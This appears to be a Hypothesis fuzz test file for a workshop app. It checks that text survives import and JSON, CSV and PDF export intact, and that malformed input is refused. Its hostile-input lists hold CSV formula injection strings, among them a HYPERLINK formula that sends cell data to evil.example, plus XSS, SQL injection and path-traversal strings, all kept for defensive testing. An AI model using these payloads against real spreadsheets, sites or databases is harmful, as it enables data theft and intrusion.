"""Hostile text everywhere: every text field, through import, the store, JSON and CSV, comes back
exactly as typed (after the documented trimming), nothing in it is interpreted, and what cannot
be text (control characters, lone surrogates, bidirectional overrides, over-long values, hostile
files) is refused with a message naming the field.

NPSWORKSHOP_FUZZ_EXAMPLES scales the example counts (docs/reliability.md gives the big run).
"""

from __future__ import annotations

import copy
import csv
import io
import json
import os
import re
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from npsworkshop.errors import InputError
from npsworkshop.interchange.csv_format import actions_csv, areas_csv, safe_cell
from npsworkshop.interchange.json_format import (
    MAX_IMPORT_BYTES,
    export_document,
    import_file,
    parse_document,
    read_document,
)
from npsworkshop.workshop import Workshop
from npsworkshop.workshop.inputs import LONG_MAX, SHORT_MAX, TITLE_MAX
from reliability.helpers import with_fingerprint
from test_interchange import GOOD, write

SCALE = int(os.environ.get("NPSWORKSHOP_FUZZ_EXAMPLES", "60"))
FUZZ = settings(
    max_examples=SCALE,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠")

# Text people type, and text people type to break things.
HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A9)",
    "＝1+1",
    "<b>bold</b> <i>i</i>",
    "<script>alert(1)</script>",
    "<img src='/etc/passwd' onerror=alert(1)/>",
    '<font color="red" size=40>big</font><br/><para>',
    "<link href='http://evil.example'>link</link>",
    "&amp; &lt; &#x41; &nbsp;",
    "]]> <![CDATA[x]]>",
    "'; DROP TABLE rating; --",
    "Robert'); DROP TABLE workshop_session;--",
    "../../etc/passwd",
    "{{7*7}} ${7*7} %s %n %(x)s {0}",
    "[bold red]rich markup[/] [link=http://x]y[/link]",
    "*not bold* _not italic_ `code` # not a heading",
    'back\\slash "quoted" \\u0041 \\n',
    "😀👩🏽‍💻🏴󠁧󠁢󠁷󠁬󠁳󠁿",
    "مجلس المدينة",
    "Ynys Môn, Ceredigion, Gwynedd",
    "Z̸̢̤̜a̵l̷g̴o̵",
    "\ufeffBOM inside",
    "𝕌𝕟𝕚𝕔𝕠𝕕𝕖 ﬁ ligature ½ ²",
    "null",
    "None",
    "NaN",
    "1e999",
    "  leading and trailing  ",
    "a,b;c|d",
]

_letters = st.characters(
    blacklist_categories=("Cs", "Cc"), blacklist_characters="\u2028\u2029" + BIDI
)


def line_text(max_size: int) -> st.SearchStrategy[str]:
    return st.one_of(st.sampled_from(HOSTILE), st.text(_letters, max_size=max_size))


def long_text() -> st.SearchStrategy[str]:
    lines = st.lists(line_text(200), min_size=1, max_size=4)
    return st.one_of(
        line_text(400),
        lines.map("\n".join),
        lines.map("\r\n".join),
        st.text(st.one_of(_letters, st.sampled_from("\t\n\r\u2028")), max_size=400),
    )


def required(strategy: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
    return strategy.filter(lambda s: s.strip())


def as_line(value: str) -> str:
    return value.strip()


def as_text(value: str) -> str:
    return value.replace("\r\n", "\n").replace("\r", "\n").strip()


FIELDS = {  # field: (strategy, normalise)
    "organisation": (required(line_text(SHORT_MAX)), as_line),
    "organisation_type": (line_text(SHORT_MAX), as_line),
    "title": (required(line_text(TITLE_MAX)), as_line),
    "facilitator": (line_text(SHORT_MAX), as_line),
    "name": (required(line_text(SHORT_MAX)), as_line),
    "role": (line_text(SHORT_MAX), as_line),
    "department": (line_text(SHORT_MAX), as_line),
    "note": (long_text(), as_text),
    "justification": (required(long_text()), as_text),  # a signed-off area needs one
    "moderation_reason": (required(long_text()), as_text),
    "rationale": (long_text(), as_text),
    "action": (required(line_text(TITLE_MAX)), as_line),
    "owner": (line_text(SHORT_MAX), as_line),
    "signed_by": (required(line_text(SHORT_MAX)), as_line),
    "signed_role": (required(line_text(SHORT_MAX)), as_line),
}

texts = st.fixed_dictionaries({field: strategy for field, (strategy, _) in FIELDS.items()})


def document_with(values: dict[str, str], *, signed: bool) -> dict[str, Any]:
    """GOOD with every text field set to the hostile values."""
    document = copy.deepcopy(GOOD)
    document["organisation"] = {"name": values["organisation"], "type": values["organisation_type"]}
    document["title"] = values["title"]
    document["facilitator"] = values["facilitator"]
    weakest = document["participants"][1]  # p2 gives the weakest level of "plain"
    weakest.update(name=values["name"], role=values["role"], department=values["department"])
    plain = document["areas"]["plain"]
    plain["ratings"][0]["note"] = values["note"]
    plain["justification"] = values["justification"]
    plain["agreed_level"] = "mature"
    plain["moderation_reason"] = values["moderation_reason"]
    plain["ambition"]["rationale"] = values["rationale"]
    plain["actions"][0].update(title=values["action"], owner=values["owner"])
    if signed:
        document["sign_off"] = {
            "name": values["signed_by"],
            "role": values["signed_role"],
            "signed_on": "2026-11-21",
        }
    return document


def expected(values: dict[str, str]) -> dict[str, str]:
    return {field: FIELDS[field][1](value) for field, value in values.items()}


def stored(document: dict[str, Any]) -> dict[str, Any]:
    """The same fields, read back from an exported document."""
    plain = document["areas"]["plain"]
    weakest = document["participants"][1]
    action = plain["actions"][0]
    sign_off = document["sign_off"] or {}
    return {
        "organisation": document["organisation"]["name"],
        "organisation_type": document["organisation"]["type"],
        "title": document["title"],
        "facilitator": document["facilitator"],
        "name": weakest["name"],
        "role": weakest["role"],
        "department": weakest["department"],
        "note": plain["ratings"][0]["note"] or "",
        "justification": plain["justification"] or "",
        "moderation_reason": plain["moderation_reason"] or "",
        "rationale": plain["ambition"]["rationale"] or "",
        "action": action["title"],
        "owner": action["owner"] or "",
        "signed_by": sign_off.get("name", ""),
        "signed_role": sign_off.get("role", ""),
    }


def read_csv(data: bytes) -> list[dict[str, str]]:
    text = data.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


def assert_no_formula_cells(rows: list[dict[str, str]]) -> None:
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(FORMULA_STARTS), cell


@FUZZ
@given(values=texts, signed=st.booleans())
def test_every_text_field_round_trips_through_import_store_json_and_csv(
    workshop: Workshop, tmp_path: Path, values: dict[str, str], signed: bool
) -> None:
    want = expected(values)
    if not signed:
        want["signed_by"] = want["signed_role"] = ""
    document = document_with(values, signed=signed)
    if signed:
        document = with_fingerprint(workshop.workspace, document)
    session_id = import_file(workshop, write(tmp_path, document))

    # The store and the JSON export give back exactly what was typed.
    snapshot = workshop.verified_snapshot(session_id)
    exported = export_document(snapshot)
    assert stored(exported) == want
    assert json.loads(json.dumps(exported, ensure_ascii=False)) == exported

    # Export, import the export, export again: the same document (ids and the imported file,
    # which says where this copy came from, aside).
    again_id = import_file(workshop, write(tmp_path, exported, "again.json"))
    again = export_document(workshop.verified_snapshot(again_id))
    assert {**again, "id": None, "imported": None} == {**exported, "id": None, "imported": None}

    # CSV: every cell as typed, formulas neutralised with a leading apostrophe, nothing else.
    areas = read_csv(areas_csv(snapshot))
    actions = read_csv(actions_csv(snapshot))
    assert_no_formula_cells(areas)
    assert_no_formula_cells(actions)
    plain = next(row for row in areas if row["area_id"] == "plain")
    assert plain["organisation"] == safe_cell(want["organisation"])
    assert plain["session_title"] == safe_cell(want["title"])
    assert plain["justification"] == safe_cell(want["justification"])
    assert plain["moderation_reason"] == safe_cell(want["moderation_reason"])
    who = f"{want['name']} ({want['department']})" if want["department"] else want["name"]
    assert plain["weakest_by"] == safe_cell(who)
    first_action = next(row for row in actions if row["area_id"] == "plain")
    assert first_action["title"] == safe_cell(want["action"])
    assert first_action["owner"] == safe_cell(want["owner"])


@FUZZ
@given(text=st.one_of(st.sampled_from(HOSTILE), st.text(max_size=300)))
def test_a_csv_cell_is_the_text_or_the_text_behind_an_apostrophe(text: str) -> None:
    cell = safe_cell(text)
    if text.startswith(FORMULA_STARTS):
        assert cell == "'" + text
    else:
        assert cell == text
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerow([cell, "next"])
    [parsed] = list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
    assert parsed == [cell, "next"]


@FUZZ
@given(values=texts)
def test_typing_through_the_service_round_trips(
    workshop: Workshop, mini_session: str, values: dict[str, str]
) -> None:
    """The app's path: one service call per field, each stored exactly."""
    want = expected(values)
    sid = mini_session
    workshop.update_details(
        sid,
        organisation_name=values["organisation"],
        organisation_type=values["organisation_type"],
        title=values["title"],
        facilitator=values["facilitator"],
    )
    workshop.update_participant(sid, "p1", values["name"], values["role"], values["department"])
    workshop.rate(sid, "plain", "p1", "mature")
    workshop.rate(sid, "plain", "p2", "developing")
    workshop.set_note(sid, "plain", "p1", values["note"])
    workshop.justify(sid, "plain", values["justification"])
    workshop.moderate(sid, "plain", "mature", values["moderation_reason"])
    workshop.set_ambition(sid, "plain", "leader", None, values["rationale"])
    action = workshop.add_action(sid, "plain", values["action"], values["owner"])
    record = workshop.snapshot(sid).record
    person = record.participants[0]
    outcome = next(o for o in record.outcomes if o.area == "plain")
    note = next(r.note for r in record.ratings if r.participant == "p1" and r.area == "plain")
    found = next(a for a in record.actions if a.id == action)
    assert (record.organisation_name, record.organisation_type) == (
        want["organisation"],
        want["organisation_type"],
    )
    assert (record.title, record.facilitator) == (want["title"], want["facilitator"])
    assert (person.name, person.role, person.department) == (
        want["name"],
        want["role"],
        want["department"],
    )
    assert (note or "") == want["note"]
    assert (outcome.justification or "") == want["justification"]
    assert outcome.moderation_reason == want["moderation_reason"]
    assert outcome.ambition is not None and (outcome.ambition.rationale or "") == want["rationale"]
    assert (found.title, found.owner or "") == (want["action"], want["owner"])
    workshop.remove_action(sid, action)


# Refused --------------------------------------------------------------------------------------

# (field, its JSON path in the error, where it goes in the document)
PLACES = [
    ("organisation.name", lambda d, v: d["organisation"].update(name=v)),
    ("title", lambda d, v: d.update(title=v)),
    ("facilitator", lambda d, v: d.update(facilitator=v)),
    ("participants[0].name", lambda d, v: d["participants"][0].update(name=v)),
    ("participants[0].department", lambda d, v: d["participants"][0].update(department=v)),
    ("areas.plain.justification", lambda d, v: d["areas"]["plain"].update(justification=v)),
    ("areas.plain.ratings[0].note", lambda d, v: d["areas"]["plain"]["ratings"][0].update(note=v)),
    (
        "areas.plain.actions[0].title",
        lambda d, v: d["areas"]["plain"]["actions"][0].update(title=v),
    ),
]
LINE_ONLY = {"\t", "\n", "\r", "\u2028", "\u2029"}
NEVER = [chr(c) for c in [*range(0x00, 0x09), 0x0B, 0x0C, *range(0x0E, 0x20), 0x7F, 0x85, 0x9F]]
NEVER += [*BIDI, "\ud800", "\udfff"]


@FUZZ
@given(
    place=st.sampled_from(PLACES),
    bad=st.sampled_from(NEVER + sorted(LINE_ONLY)),
    before=st.text(_letters, min_size=1, max_size=20),
    after=st.text(_letters, min_size=1, max_size=20),
)
def test_what_is_not_text_is_refused_naming_the_field(
    workshop: Workshop,
    tmp_path: Path,
    place: tuple[str, Any],
    bad: str,
    before: str,
    after: str,
) -> None:
    path, put = place
    long_field = path.endswith(("justification", "note"))
    assume(not (long_field and bad in LINE_ONLY))  # line breaks are welcome in long text
    assume(before.strip() and after.strip())
    document = copy.deepcopy(GOOD)
    put(document, before + bad + after)
    count = len(workshop.list_sessions())
    source = tmp_path / "hostile.json"
    source.write_text(json.dumps(document), encoding="utf-8")  # \ud800 written as an escape
    with pytest.raises(InputError) as caught:
        import_file(workshop, source)
    message = str(caught.value)
    assert f"{source}: {path}: " in message
    assert "control characters" in message or "valid string" in message  # a lone surrogate
    assert len(workshop.list_sessions()) == count  # nothing written


@pytest.mark.parametrize(
    ("path", "put", "limit"),
    [
        ("organisation.name", PLACES[0][1], SHORT_MAX),
        ("title", PLACES[1][1], TITLE_MAX),
        ("participants[0].name", PLACES[3][1], SHORT_MAX),
        ("areas.plain.justification", PLACES[5][1], LONG_MAX),
        ("areas.plain.actions[0].title", PLACES[7][1], TITLE_MAX),
    ],
)
def test_over_long_values_are_refused_with_the_limit(
    workshop: Workshop, tmp_path: Path, path: str, put: Any, limit: int
) -> None:
    document = copy.deepcopy(GOOD)
    put(document, "x" * limit)
    import_file(workshop, write(tmp_path, document))  # at the limit: accepted
    put(document, "x" * (limit + 1))
    message = f"{path}: String should have at most {limit} characters"
    with pytest.raises(InputError, match=re.escape(message)):
        import_file(workshop, write(tmp_path, document))


# Hostile files ---------------------------------------------------------------------------------

json_values = st.recursive(
    st.one_of(
        st.none(), st.booleans(), st.integers(), st.floats(allow_nan=False), st.text(max_size=30)
    ),
    lambda children: st.one_of(
        st.lists(children, max_size=4), st.dictionaries(st.text(max_size=12), children, max_size=4)
    ),
    max_leaves=20,
)
GOOD_PATHS = [
    ("organisation",),
    ("organisation", "name"),
    ("title",),
    ("held_on",),
    ("scope",),
    ("participants",),
    ("participants", 0),
    ("participants", 0, "id"),
    ("areas",),
    ("areas", "plain"),
    ("areas", "plain", "ratings", 0),
    ("areas", "plain", "ratings", 0, "level"),
    ("areas", "plain", "ambition"),
    ("areas", "plain", "actions", 0, "status"),
    ("sign_off",),
    ("framework", "id"),
]


@FUZZ
@given(data=json_values)
def test_any_json_is_a_session_or_a_named_problem(data: Any) -> None:
    try:
        parse_document(data, "file.json")
    except InputError as exc:
        assert str(exc).startswith("file.json: ")


@FUZZ
@given(path=st.sampled_from(GOOD_PATHS), value=json_values)
def test_a_damaged_session_file_imports_whole_or_not_at_all(
    workshop: Workshop, tmp_path: Path, path: tuple[Any, ...], value: Any
) -> None:
    document = copy.deepcopy(GOOD)
    node: Any = document
    for part in path[:-1]:
        node = node[part]
    node[path[-1]] = value
    before = len(workshop.list_sessions())
    try:
        session_id = import_file(workshop, write(tmp_path, document))
    except InputError as exc:
        assert str(exc).startswith(f"{tmp_path / 'session.json'}: ")
        assert len(workshop.list_sessions()) == before
    else:
        workshop.verified_snapshot(session_id)
        assert len(workshop.list_sessions()) == before + 1


@FUZZ
@given(data=st.binary(max_size=2000))
def test_any_bytes_are_a_session_or_a_named_problem(tmp_path: Path, data: bytes) -> None:
    path = tmp_path / "bytes.json"
    path.write_bytes(data)
    try:
        read_document(path)
    except InputError as exc:
        assert str(exc).startswith(f"{path}: ")


@pytest.mark.parametrize(
    ("content", "problem"),
    [
        ("[" * 100_000 + "]" * 100_000, "nested too deeply"),
        ('{"format": "npsworkshop/session", "format": "x"}', "appears twice"),
        ('{"format_version": NaN}', "NaN is not a JSON number"),
        ('{"format_version": Infinity}', "Infinity is not a JSON number"),
        ('{"format_version": ' + "9" * 5000 + "}", "is not accepted"),
        ("\udcff", "is not UTF-8"),
    ],
)
def test_hostile_json_is_refused_with_a_message(tmp_path: Path, content: str, problem: str) -> None:
    path = tmp_path / "hostile.json"
    path.write_bytes(content.encode("utf-8", "surrogateescape"))
    with pytest.raises(InputError, match=problem):
        read_document(path)


def test_an_import_file_over_the_stated_size_is_refused_unread(tmp_path: Path) -> None:
    assert MAX_IMPORT_BYTES == 5 * 1024 * 1024
    path = tmp_path / "big.json"
    with path.open("wb") as handle:
        handle.truncate(MAX_IMPORT_BYTES + 1)
    with pytest.raises(InputError, match="at most 5,242,880 bytes"):
        read_document(path)


# The PDF ------------------------------------------------------------------------------------------

PDF_FUZZ = settings(FUZZ, max_examples=max(8, SCALE // 6))
PDF_MARKUP = [
    "<b>bold</b>",
    "<font size=40 color=red>huge</font>",
    "<img src='s.png' width=200 height=200/>",
    "<a href='https://evil.example/'>a link</a>",
    "<link href='https://evil.example/'>link</link>",
    "&amp; &lt; &#169;",
    "unbalanced < here",
    "<para>",
    "]]> <![CDATA[x]]>",
    "=cmd|' /C calc'!A0",
    "[bold]rich[/bold]",
]


def pdf_of(workshop: Workshop, tmp_path: Path, values: dict[str, str]) -> tuple[bytes, str]:
    from npsworkshop.report.pdf import render_pdf

    document = with_fingerprint(workshop.workspace, document_with(values, signed=True))
    session_id = import_file(workshop, write(tmp_path, document))
    data = render_pdf(workshop.verified_snapshot(session_id), participant_names=True)
    return data, session_id


def pdf_text_and_live_parts(data: bytes) -> tuple[str, list[str]]:
    """All the text, without white space (lines wrap anywhere), and any image or link."""
    from pypdf import PdfReader

    reader = PdfReader(io.BytesIO(data))
    text = "".join("".join(page.extract_text().split()) for page in reader.pages)
    live: list[str] = []
    for page in reader.pages:
        resources = page.get("/Resources") or {}
        for name, xobject in (resources.get("/XObject") or {}).items():
            if xobject.get_object().get("/Subtype") == "/Image":
                live.append(f"image {name}")
        for annotation in page.get("/Annots") or []:
            action = annotation.get_object().get("/A") or {}
            if "/URI" in action:
                live.append(f"link {action['/URI']}")
    return text, live


@PDF_FUZZ
@given(values=texts)
def test_any_text_renders_in_the_pdf_without_images_or_links(
    workshop: Workshop, tmp_path: Path, values: dict[str, str]
) -> None:
    data, _ = pdf_of(workshop, tmp_path, values)
    assert data.startswith(b"%PDF")
    _, live = pdf_text_and_live_parts(data)
    assert live == []


@PDF_FUZZ
@given(chosen=st.lists(st.sampled_from(PDF_MARKUP), min_size=len(FIELDS), max_size=len(FIELDS)))
def test_markup_prints_in_the_pdf_as_typed(
    workshop: Workshop, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, chosen: list[str]
) -> None:
    monkeypatch.chdir(tmp_path)  # an <img src='s.png'> that slipped through would find a file
    (tmp_path / "s.png").write_bytes(b"\x89PNG\r\n\x1a\n")
    values = dict(zip(FIELDS, chosen, strict=True))
    data, _ = pdf_of(workshop, tmp_path, values)
    text, live = pdf_text_and_live_parts(data)
    assert live == []
    for field in ("organisation", "justification", "action", "name"):
        assert "".join(values[field].split()) in text, field
